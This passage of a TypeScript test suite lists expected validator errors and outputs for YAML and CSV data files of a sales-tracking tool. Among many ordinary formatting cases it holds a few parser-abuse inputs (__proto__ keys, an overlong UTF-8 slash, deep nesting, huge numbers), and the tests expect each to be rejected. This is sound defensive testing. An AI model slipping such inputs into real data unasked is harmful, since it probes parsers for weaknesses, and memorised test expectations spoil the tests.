'🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'mapping-not-list.leads.yaml',
    what: 'leads keyed by id (a mapping) instead of a list',
    expect: [
      'data/2026/03/leads.yaml  file must be a list of records, got a mapping  (each record starts with "- " at the start of a line)',
    ],
    records: 'refused',
  },
  {
    file: 'merge-key.customers.yaml',
    what: 'a YAML merge key (<<: *toko) to copy one customer into another',
    expect: [
      'data/customers.yaml:1:3  YAML anchors and aliases (&name, *name) are not allowed in data files  (write the values out in full)',
    ],
    records: 'refused',
  },
  {
    file: 'missing-required-fields.orders.yaml',
    what: 'orders without customer, without lines, and a line without qty',
    expect: [
      'data/2026/03/orders.yaml:2:3  customer is required  (add "customer:" to this record)',
      'data/2026/03/orders.yaml:7:3  lines is required  (add "lines:" to this record, e.g. lines: [{ sku: BEV-TEH-350, qty: 24, price: 5500 }])',
      'data/2026/03/orders.yaml:16:7  lines[0].qty is required  (add "qty:" to this record)',
    ],
    records: { total: 3, valid: 0 },
  },
  {
    file: 'nan-and-infinity.targets.yaml',
    what: 'target values .nan, .inf and -.Inf',
    expect: [
      'data/targets/2026.yaml:1:45  value must be a number, got NaN',
      'data/targets/2026.yaml:2:45  value must be a number, got Infinity',
      'data/targets/2026.yaml:3:49  value must be a number, got -Infinity',
    ],
    records: { total: 4, valid: 1 },
    values: [{ kpi: 'follow-up-24h', period: '2026', value: 0.8 }],
  },
  {
    file: 'negative-and-out-of-range.orders.yaml',
    what: 'qty 0, -2 and 2.5; price -5000; discounts 1.5, 10 and -0.1; kind crossell: every problem of one order reported',
    expect: [
      'data/2026/03/orders.yaml:6:26  lines[0].qty must be a positive integer, got 0  (the number of units, a whole number above 0)',
      'data/2026/03/orders.yaml:6:36  lines[0].price must be an amount >= 0, got -5000  (the unit price in the company currency, a number >= 0 without separators)',
      'data/2026/03/orders.yaml:7:26  lines[1].qty must be a positive integer, got -2  (the number of units, a whole number above 0)',
      'data/2026/03/orders.yaml:7:53  lines[1].discount must be a fraction between 0 and 1, got 1.5  (discount is a fraction: write 0.015 for 1.5 %)',
      'data/2026/03/orders.yaml:8:26  lines[2].qty must be a positive integer, got 2.5  (the number of units, a whole number above 0)',
      'data/2026/03/orders.yaml:8:54  lines[2].discount must be a fraction between 0 and 1, got 10  (discount is a fraction: write 0.1 for 10 %)',
      'data/2026/03/orders.yaml:9:52  lines[3].discount must be a fraction between 0 and 1, got -0.1  (a fraction from 0 to 1: 0.1 means 10 % off)',
      'data/2026/03/orders.yaml:9:64  lines[3].kind must be regular, cross-sell or up-sell, got "crossell"  (did you mean cross-sell?)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'negative-zero.orders.yaml',
    what: 'price -0 (read as 0), price -0.0 and discount -0.0 (read as -0, which every rule treats as 0): valid',
    expect: [],
    records: { total: 1, valid: 1 },
    values: [{ id: 'SO-2026-03-0601', date: '2026-03-19', customer: 'C1', rep: 'andi', lines: [{ sku: 'TEH-1', qty: 1, price: 0, discount: 0, kind: 'regular' }, { sku: 'TEH-2', qty: 1, price: -0, discount: -0, kind: 'regular' }] }],
  },
  {
    file: 'nesting-100-block.customers.yaml',
    what: '100 levels of nested block mappings under a customer: stopped at the depth limit',
    expect: [
      'data/customers.yaml:38:63  YAML syntax error: nesting exceeded maxDepth (32)  (data files nest a few levels at most (limit 32))',
    ],
    records: 'refused',
  },
  {
    file: 'nesting-100-flow.orders.yaml',
    what: '100 nested flow lists in a note: stopped at the depth limit',
    expect: [
      'data/2026/03/orders.yaml:6:39  YAML syntax error: nesting exceeded maxDepth (32)  (data files nest a few levels at most (limit 32))',
    ],
    records: 'refused',
  },
  {
    file: 'null-and-scalar-records.surveys.yaml',
    what: 'records that are empty, null, ~, [] or a bare id',
    expect: [
      'data/2026/03/surveys.yaml:2:2  record must be a mapping of fields (name: value), got nothing  (an empty entry: fill it in, or remove its "-" line)',
      'data/2026/03/surveys.yaml:3:3  record must be a mapping of fields (name: value), got nothing  (an empty entry: fill it in, or remove its "-" line)',
      'data/2026/03/surveys.yaml:4:3  record must be a mapping of fields (name: value), got nothing  (an empty entry: fill it in, or remove its "-" line)',
      'data/2026/03/surveys.yaml:5:3  record must be a mapping of fields (name: value), got an empty list  (write the fields as name: value lines, not as a "-" list)',
      'data/2026/03/surveys.yaml:6:3  record must be a mapping of fields (name: value), got "S-6"  (write the fields as name: value lines, e.g. { id: ..., name: ... })',
    ],
    records: { total: 7, valid: 2 },
    values: [{ id: 'S-1', date: '2026-03-10', customer: 'C1', score: 4 }, { id: 'S-7', date: '2026-03-11', customer: 'C2', score: 5 }],
  },
  {
    file: 'overlong-utf8.customers.yaml',
    what: 'an overlong UTF-8 sequence (0xC0 0xAF, a disguised "/")',
    expect: [
      'data/customers.yaml:2:23  file is not UTF-8 text (invalid byte 0xc0)  (save it as UTF-8; names with accents saved as Latin-1 (Windows-1252) need re-saving)',
    ],
    records: 'refused',
  },
  {
    file: 'percent-strings.targets.yaml',
    what: 'targets written 80%, "12,5%", a month 2026-13 and a misspelt KPI',
    expect: [
      'data/targets/2026.yaml:3:49  value must be a number, got "80%"  (write percentages as fractions: 0.8)',
      'data/targets/2026.yaml:4:56  value must be a number, got "12,5%"  (write a plain number, without quotes)',
      'data/targets/2026.yaml:5:43  period must be a period: 2026-03, 2026-Q1, 2026 or a week 2026-W05, got "2026-13"  (a month 2026-03, a quarter 2026-Q1, a year 2026 or (targets only) a week 2026-W05)',
      'data/targets/2026.yaml:6:10  kpi "net-salse" is not a KPI in kpis/  (did you mean "net-sales"?)',
    ],
    records: { total: 5, valid: 2 },
    values: [{ kpi: 'net-sales', period: '2026-03', value: 5200000000 }, { kpi: 'net-salse', period: '2026', value: 60000000000 }],
  },
  {
    file: 'products-as-a-list.products.yaml',
    what: 'the products as a list, without the categories: and products: headings (fixed: reported as unknown fields "0" and "1", all at 1:1)',
    expect: [
      'data/products.yaml  products.yaml must be a mapping with categories: and products:, got a list  (write categories: (a list) and products: (a list of products) at the start of a line; see README "Data layout")',
    ],
    records: 'refused',
  },
  {
    file: 'products-not-a-list.products.yaml',
    what: 'products keyed by sku (a mapping), no categories',
    expect: [
      'data/products.yaml:1:13  categories must list at least one category, got an empty list',
      'data/products.yaml:3:3  products must be a list of records, got a mapping  (each record starts with "- " at the start of a line)',
    ],
    records: 'refused',
  },
  {
    file: 'proto-and-constructor-keys.team.yaml',
    what: '__proto__, constructor and prototype as fields of reps: unknown fields, nothing polluted',
    expect: [
      'data/team.yaml:5:3  __proto__ is not a known field  (the fields here are: id, name, region, team, manager, joined, left)',
      'data/team.yaml:11:3  constructor is not a known field  (the fields here are: id, name, region, team, manager, joined, left)',
      'data/team.yaml:12:3  prototype is not a known field  (the fields here are: id, name, region, team, manager, joined, left)',
    ],
    records: { total: 2, valid: 0 },
  },
  {
    file: 'prototype-names-as-ids.customers.yaml',
    what: 'customers with ids constructor, toString, hasOwnProperty and __proto__, naming region constructor, segment valueOf, owner toString: looked up as ids, never as object properties',
    expect: [
      'data/customers.yaml:5:48  region "constructor" is not a known region  (regions are listed in data/company.yaml under regions:)',
      'data/customers.yaml:6:67  segment "valueOf" is not a known segment  (segments are listed in data/company.yaml under segments:)',
      'data/customers.yaml:6:83  owner "toString" is not a known rep  (reps are listed in data/team.yaml)',
      'data/customers.yaml:7:9  id must be an id (letters, digits, - _ .; at most 80), got "__proto__"  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:7:79  owner "__proto__" is not a known rep  (reps are listed in data/team.yaml)',
      'data/customers.yaml:7:79  owner must be an id (letters, digits, - _ .; at most 80), got "__proto__"',
    ],
    records: { total: 6, valid: 5 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'constructor', name: 'Toko Constructor', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'toString', name: 'Toko ToString', region: 'constructor', segment: 'retail', owner: 'andi' }, { id: 'hasOwnProperty', name: 'Toko Has', region: 'jakarta', segment: 'valueOf', owner: 'toString' }],
  },
  {
    file: 'quoted-numbers.orders.yaml',
    what: 'qty, price and discount in quotes',
    expect: [
      'data/2026/03/orders.yaml:6:26  lines[0].qty must be a positive integer, got "10"  (write a plain number, without quotes)',
      'data/2026/03/orders.yaml:6:39  lines[0].price must be an amount (a number >= 0), got "5000"  (write a plain number, without quotes)',
      'data/2026/03/orders.yaml:7:36  lines[1].price must be an amount (a number >= 0), got "9000"  (write a plain number, without quotes)',
      'data/2026/03/orders.yaml:7:54  lines[1].discount must be a fraction between 0 and 1, got "0.1"  (write a plain number, without quotes)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'scalar-file.surveys.yaml',
    what: 'a file that is one line of text',
    expect: [
      'data/2026/03/surveys.yaml  file must be a list of records, got a string  (each record starts with "- " at the start of a line)',
    ],
    records: 'refused',
  },
  {
    file: 'tab-indentation.team.yaml',
    what: 'a record indented with tabs',
    expect: [
      'data/team.yaml:6:1  YAML syntax error: tab characters must not be used in indentation  (indent with spaces, not tabs)',
    ],
    records: 'refused',
  },
  {
    file: 'tabs-in-strings.customers.yaml',
    what: 'tabs inside a plain name, around a quoted name (trimmed), as \\t in a quoted name, and before a comment: valid',
    expect: [],
    records: { total: 4, valid: 4 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko\tDua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C3', name: 'Toko Tiga', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C4', name: 'Toko\tEmpat', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'thousand-separators.orders.yaml',
    what: 'amounts with thousand separators: qty 1.200 (read as 1.2), price 1.234.567, 1,250,000 and "Rp 15.000"',
    expect: [
      'data/2026/03/orders.yaml:8:12  lines[0].qty must be a positive integer, got 1.2  (the number of units, a whole number above 0)',
      'data/2026/03/orders.yaml:9:14  lines[0].price must be an amount (a number >= 0), got "1.234.567"  (write the number without thousand separators or quotes: 1234567)',
      'data/2026/03/orders.yaml:12:14  lines[1].price must be an amount (a number >= 0), got "1,250,000"  (write the number without thousand separators or quotes: 1250000)',
      'data/2026/03/orders.yaml:18:36  lines[0].price must be an amount (a number >= 0), got "Rp 15.000"  (write a plain number, without quotes)',
    ],
    records: { total: 2, valid: 0 },
  },
  {
    file: 'two-documents.leads.yaml',
    what: 'a second document after ---',
    expect: [
      'data/2026/03/leads.yaml:2:1  file holds more than one YAML document  (one document per file: remove the "---" separator and what follows, or move it to its own file)',
    ],
    records: 'refused',
  },
  {
    file: 'unclosed-flow-no-final-newline.orders.yaml',
    what: 'a flow mapping never closed, in a file without a final line end: told at the end of its one line (fixed: js-yaml adds a line end, and the error pointed at line 2, which the file does not have)',
    expect: [
      'data/2026/03/orders.yaml:1:112  YAML syntax error: unexpected end of the stream within a flow collection  (a list or mapping opened with [ or { is not closed: check this line and the ones before for a missing ] or })',
    ],
    records: 'refused',
  },
  {
    file: 'unknown-field-typos.customers.yaml',
    what: 'fields regoin, segmen, Owner and an extra phone',
    expect: [
      'data/customers.yaml:2:29  regoin is not a known field  (did you mean "region"?)',
      'data/customers.yaml:6:3  segmen is not a known field  (did you mean "segment"?)',
      'data/customers.yaml:7:3  Owner is not a known field  (did you mean "owner"?)',
      'data/customers.yaml:8:78  phone is not a known field  (the fields here are: id, name, region, segment, owner, owners, since)',
    ],
    records: { total: 4, valid: 1 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'unknown-tags.orders.yaml',
    what: 'a !!timestamp tag on a date',
    expect: [
      'data/2026/03/orders.yaml:2:31  YAML syntax error: unknown tag !<tag:yaml.org,2002:timestamp>  (tags like !!binary or !foo are not used in data files; write plain values)',
    ],
    records: 'refused',
  },
  {
    file: 'utf16be-without-bom.surveys.yaml',
    what: 'UTF-16 big-endian without a byte order mark',
    expect: [
      'data/2026/03/surveys.yaml  file is UTF-16 text  (save it as UTF-8 (in Excel: "CSV UTF-8"; in an editor: encoding UTF-8))',
    ],
    records: 'refused',
  },
  {
    file: 'utf16le-with-bom.customers.yaml',
    what: 'UTF-16 little-endian with a byte order mark (Excel "Unicode Text", Notepad "Unicode")',
    expect: [
      'data/customers.yaml  file is UTF-16 text  (save it as UTF-8 (in Excel: "CSV UTF-8"; in an editor: encoding UTF-8))',
    ],
    records: 'refused',
  },
  {
    file: 'utf8-bom.company.yaml',
    what: 'company.yaml with a UTF-8 byte order mark (Notepad): valid',
    expect: [],
    records: { total: 1, valid: 1 },
    values: { name: 'PT Contoh Jaya', currency: 'IDR', locale: 'id-ID', timezone: 'Asia/Jakarta', fiscal_year_start: 1, working_days: ['mon', 'tue', 'wed', 'thu', 'fri'], week_start: 'mon', holidays: [{ date: '2026-03-20', name: 'Idul Fitri' }], regions: [{ id: 'jakarta', name: { id: 'Jakarta', en: 'Jakarta' } }, { id: 'bandung', name: { id: 'Bandung', en: 'Bandung' } }], segments: [{ id: 'retail', name: { id: 'Ritel', en: 'Retail' } }], lead_sources: [{ id: 'referral', name: { id: 'Referensi', en: 'Referral' } }], lost_reasons: [] },
  },
  {
    file: 'windows1252-smart-quotes.goals.yaml',
    what: 'smart quotes and an en dash typed in Word, saved as Windows-1252; the KPIs then name goals that could not be read',
    expect: [
      'data/goals.yaml:5:16  file is not UTF-8 text (invalid byte 0x93)  (save it as UTF-8; names with accents saved as Latin-1 (Windows-1252) need re-saving)',
      'kpis/average-transaction-value.yaml:10:7  goal "bigger-baskets" does not exist  (goals are listed in data/goals.yaml)',
      'kpis/customer-retention-rate.yaml:10:7  goal "keep-customers" does not exist  (goals are listed in data/goals.yaml)',
      'kpis/customer-satisfaction.yaml:10:7  goal "happy-customers" does not exist  (goals are listed in data/goals.yaml)',
      'kpis/follow-up-24h.yaml:10:7  goal "faster-response" does not exist  (goals are listed in data/goals.yaml)',
      'kpis/lead-conversion-rate.yaml:10:7  goal "convert-more-leads" does not exist  (goals are listed in data/goals.yaml)',
      'kpis/net-sales.yaml:10:7  goal "grow-sales" does not exist  (goals are listed in data/goals.yaml)',
    ],
    records: 'refused',
  },
  {
    file: 'wrong-types.company.yaml',
    what: 'currency Rp, locale id, timezone WIB, fiscal_year_start 13, Indonesian day names, a dd-mm-yyyy holiday, a region id with a space, segments as text',
    expect: [
      'data/company.yaml:2:11  currency must be a 3-letter currency code like IDR, got "Rp"  (an ISO 4217 code such as IDR)',
      'data/company.yaml:3:9  locale must be id-ID, en-US or en-GB, got "id"  (one of: id-ID, en-US, en-GB)',
      'data/company.yaml:4:11  timezone must be an IANA timezone like Asia/Jakarta  (an IANA name such as Asia/Jakarta, Asia/Makassar or Asia/Jayapura)',
      'data/company.yaml:5:20  fiscal_year_start must be a month number 1-12, got 13',
      'data/company.yaml:6:16  working_days[0] must be one of mon tue wed thu fri sat sun, got "senin"  (one of: mon, tue, wed, thu, fri, sat, sun)',
      'data/company.yaml:6:23  working_days[1] must be one of mon tue wed thu fri sat sun, got "selasa"  (one of: mon, tue, wed, thu, fri, sat, sun)',
      'data/company.yaml:6:31  working_days[2] must be one of mon tue wed thu fri sat sun, got "rabu"  (one of: mon, tue, wed, thu, fri, sat, sun)',
      'data/company.yaml:6:37  working_days[3] must be one of mon tue wed thu fri sat sun, got "kamis"  (one of: mon, tue, wed, thu, fri, sat, sun)',
      'data/company.yaml:6:44  working_days[4] must be one of mon tue wed thu fri sat sun, got "jumat"  (one of: mon, tue, wed, thu, fri, sat, sun)',
      'data/company.yaml:9:13  holidays[1].date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/company.yaml:9:31  holidays[1].name must not be empty, got ""  (a name: text on one line, at most 500 characters)',
      'data/company.yaml:12:11  regions[1].id must be an id (letters, digits, - _ .; at most 80), got "Jawa Barat"  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/company.yaml:13:11  segments must be a list, got "retail"  (write a list: [a, b], or one "- " line per entry)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'yaml11-scalars.customers.yaml',
    what: 'YAML 1.1 habits: on and no stay text (core schema); 0123, 0x1F, 1e3, .inf, null and true are not ids',
    expect: [
      'data/customers.yaml:5:9  id must be an id (letters, digits, - _ .), got 123  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:6:9  id must be an id (letters, digits, - _ .), got 31  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:7:9  id must be an id (letters, digits, - _ .), got 1000  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:8:9  id must be an id (letters, digits, - _ .), got Infinity  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:9:9  id must be an id (letters, digits, - _ .), got nothing  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:9:21  name must be text, got nothing  (a name: text on one line, at most 500 characters)',
      'data/customers.yaml:10:9  id must be an id (letters, digits, - _ .), got true  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:10:21  name must be text, got false  (a name: text on one line, at most 500 characters)',
    ],
    records: { total: 9, valid: 3 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'on', name: 'no', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'huge-amounts.orders.yaml',
    what: 'a price of 1e308 (fixed: validated, and made net sales "no data" with exit 0), one of 1e15 + 1 and a quantity of 1e9 + 1; 1e15 and 1e9 themselves are the maxima',
    expect: [
      'data/2026/03/orders.yaml:6:37  lines[0].price must be an amount of at most 1,000,000,000,000,000 (1e15), got 1e+308  (amounts are at most 1e15, so that every total stays exact; look for extra digits or a pasted formula result)',
      'data/2026/03/orders.yaml:13:36  lines[0].price must be an amount of at most 1,000,000,000,000,000 (1e15), got 1000000000000001  (amounts are at most 1e15, so that every total stays exact; look for extra digits or a pasted formula result)',
      'data/2026/03/orders.yaml:14:26  lines[1].qty must be a quantity of at most 1,000,000,000 (1e9), got 1000000001  (at most 1e9 units on one line; look for extra digits, or split the line)',
    ],
    records: { total: 3, valid: 1 },
    values: [{ id: 'SO-3', date: '2026-03-04', customer: 'C2', rep: 'andi', lines: [{ sku: 'TEH-1', qty: 1e9, price: 1e15, discount: 0, kind: 'regular' }] }],
  },
  {
    file: 'huge-list-price.products.yaml',
    what: 'a list price of 1e308 (fixed: validated)',
    expect: [
      'data/products.yaml:4:76  list_price must be an amount of at most 1,000,000,000,000,000 (1e15), got 1e+308  (amounts are at most 1e15, so that every total stays exact; look for extra digits or a pasted formula result)',
    ],
    records: { total: 2, valid: 1 },
  },
  {
    file: 'huge-values.targets.yaml',
    what: 'target values 1e308 and -1.5e15 (fixed: validated); 1e15 and -1e15 are the bounds',
    expect: [
      'data/targets/2026.yaml:1:45  value must be a number from -1e15 to 1e15, got 1e+308  (a target is at most 1e15 either way, like every amount; look for extra digits)',
      'data/targets/2026.yaml:2:45  value must be a number from -1e15 to 1e15, got -1500000000000000  (a target is at most 1e15 either way, like every amount; look for extra digits)',
      // The bound itself is valid, and a net sales target below zero is still warned about.
      'warning: data/targets/2026.yaml:4:45  value: -1000000000000000 is below zero, but "net-sales" is judged by attainment (value ÷ target), which means nothing against such a target; it is judged on which side of the target the value is  (set judge: points in kpis/net-sales.yaml to judge it by the difference to the target, or give a target above zero)',
    ],
    records: { total: 4, valid: 2 },
  },
  {
    file: 'left-before-joined.team.yaml',
    what: 'a rep who left before they joined (fixed: passed); left on the day they joined is one day of work, valid',
    expect: [
      'data/team.yaml:9:9  left 2025-01-01 is before joined 2026-03-15  (left is the last day with the company, on or after joined; correct one of the two dates)',
    ],
    records: { total: 3, valid: 3 },
  },
  {
    file: 'multi-line-lead-names.leads.yaml',
    what: 'a lead name with a CRLF inside quotes (fixed: kept, two lines on the site); a plain name continued on the next line is folded by YAML into one line, valid',
    expect: [
      'data/2026/03/leads.yaml:2:47  name must be on one line  (join the lines into one; names, titles and descriptions show on one line, only notes and comments may span lines)',
    ],
    records: { total: 3, valid: 2 },
    values: [{ id: 'L-1', created: '2026-03-02T09:00', source: 'referral', rep: 'andi', region: 'jakarta' }, { id: 'L-3', created: '2026-03-04T09:00', name: 'Warung Pak Joko', source: 'referral', rep: 'andi', region: 'jakarta' }],
  },
  {
    file: 'multi-line-names.customers.yaml',
    what: 'customer names with \\n in quotes, a literal block | of two lines and a LINE SEPARATOR (fixed: all kept although the hint says "one line"); a folded block >- and a | block of one line are one line, valid',
    expect: [
      'data/customers.yaml:3:19  name must be on one line  (join the lines into one; names, titles and descriptions show on one line, only notes and comments may span lines)',
      'data/customers.yaml:5:9  name must be on one line  (join the lines into one; names, titles and descriptions show on one line, only notes and comments may span lines)',
      'data/customers.yaml:18:19  name must be on one line  (join the lines into one; names, titles and descriptions show on one line, only notes and comments may span lines)',
    ],
    records: { total: 7, valid: 4 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C5', name: 'Toko Lima Jaya', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C7', name: 'Toko Tujuh', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
];

// ---------------------------------------------------------------------------------------------
// CSV: each file imported for 2026-04 into the valid fixture (or an example's scaffold);
// `output` is everything the command prints, `written` every file it writes, line by line.
// `rows`: the data rows of the file as a spreadsheet shows them.
// ---------------------------------------------------------------------------------------------

interface CsvCase {
  file: string;
  kind: 'orders' | 'leads' | 'activities' | 'surveys';
  /** A mapping in test/corpus/csv/, or an example's (superstore/orders.map.yaml). */
  map?: string;
  repo?: 'fixture' | 'superstore';
  createMissing?: boolean;
  what: string;
  rows: number;
  exit: 0 | 1;
  output: string[];
  written?: Record<string, string[]>;
}

const CSV_CASES: CsvCase[] = [
  {
    file: 'id-locale-semicolons.csv',
    kind: 'orders', map: 'id-locale-semicolons.map.yaml',
    what: 'an Indonesian spreadsheet export: BOM, semicolons, CRLF, "Rp 1.234.567", "12.500,50", qty 1.200, "Rp 15.000,-", "IDR 9.000", 10%, 0,05 and "2,5 %", dates 03/04/2026, 7/4/2026 and ISO; a mapping of one line states numbers: "1.234,5" (without it, 1.200, 15.000 and 9.000 are ambiguous: see ambiguous-grouping.csv)',
    rows: 4,
    exit: 0,
    output: [
      'id-locale-semicolons.csv: 4 rows, 4 used for 2026-04',
      'columns read by field name; numbers read 1.234.567,89 (the mapping), dates dd/mm/yyyy or yyyy-mm-dd (company locale id-ID)',
      'wrote data/2026/04/orders.yaml: 3 orders, 4 lines, net sales 46,868,437.5 IDR',
    ],
    written: {
      'data/2026/04/orders.yaml': [
        '# Imported by capaian import orders from id-locale-semicolons.csv with id-locale-semicolons.map.yaml, 2026-04.',
        '- id: INV-0401',
        '  date: 2026-04-03',
        '  customer: C1',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 24, price: 1234567 }',
        '    - { sku: TEH-2, qty: 10, price: 12500.5, discount: 0.1 }',
        '- id: INV-0402',
        '  date: 2026-04-07',
        '  customer: C2',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 1200, price: 15000, discount: 0.05 }',
        '- id: INV-0403',
        '  date: 2026-04-07',
        '  customer: C1',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-2, qty: 3, price: 9000, discount: 0.025 }',
        '',
      ],
    },
  },
  {
    file: 'en-numbers-us-dates.csv',
    kind: 'orders', map: 'en-numbers-us-dates.map.yaml',
    what: 'an American export with a mapping: "1,200", "$5,000.00", "1,234,567.5", .5 and m/d/yyyy dates (the $ is dropped: amounts are taken in the company currency)',
    rows: 3,
    exit: 0,
    output: [
      'en-numbers-us-dates.csv: 3 rows, 3 used for 2026-04',
      'numbers read 1,234,567.89 (the mapping), dates m/d/yyyy or yyyy-mm-dd (the mapping)',
      'wrote data/2026/04/orders.yaml: 3 orders, 3 lines, net sales 7,869,136.5 IDR',
    ],
    written: {
      'data/2026/04/orders.yaml': [
        '# Imported by capaian import orders from en-numbers-us-dates.csv with en-numbers-us-dates.map.yaml, 2026-04.',
        '- id: SO-0401',
        '  date: 2026-04-03',
        '  customer: C1',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 1200, price: 5000, discount: 0.1 }',
        '- id: SO-0402',
        '  date: 2026-04-15',
        '  customer: C2',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-2, qty: 2, price: 1234567.5 }',
        '- id: SO-0403',
        '  date: 2026-04-30',
        '  customer: C1',
        '  rep: andi',
        '  lines:',
        '    - { sku: TEH-1, qty: 3, price: 0.5 }',
        '',
      ],
    },
  },
  {
    file: 'wrong-locale-numbers.csv',
    kind: 'orders',
    what: 'English-style numbers read the Indonesian way (the company locale): "1,234,567.00" and "5,000.50" refused, qty "1,234" refused as ambiguous (fixed: read as 1.234, then refused as not whole)',
    rows: 3,
    exit: 1,
    output: [
      'wrong-locale-numbers.csv:2  price (column "price"): "1,234,567.00" is not a number written the id way (1.234.567,89)  (it looks like commas group thousands and a point marks decimals: set numbers: en in the mapping)',
      'wrong-locale-numbers.csv:4  price (column "price"): "5,000.50" is not a number written the id way (1.234.567,89)  (it looks like commas group thousands and a point marks decimals: set numbers: en in the mapping)',
      'wrong-locale-numbers.csv:3  qty (column "qty"): "1,234" is ambiguous: 1.234 written the id way (1.234,5), 1234 the en way (1,234.5)  (say how the CSV writes numbers in the mapping: numbers: "1.234,5" (id) or numbers: "1,234.5" (en); see docs/import.md)',
      '',
      '3 problems: nothing written',
    ],
  },
  {
    file: 'ambiguous-grouping.csv',
    kind: 'orders',
    what: 'the Indonesian way, "1,500" is one and a half and "1.500" fifteen hundred, the English way the other way round: without a mapping that states the format, both are refused as ambiguous (fixed: read the locale\'s way without a word); "1.500,5" is not ambiguous',
    rows: 3,
    exit: 1,
    output: [
      'ambiguous-grouping.csv:2  price (column "price"): "1,500" is ambiguous: 1.5 written the id way (1.234,5), 1500 the en way (1,234.5)  (say how the CSV writes numbers in the mapping: numbers: "1.234,5" (id) or numbers: "1,234.5" (en); see docs/import.md)',
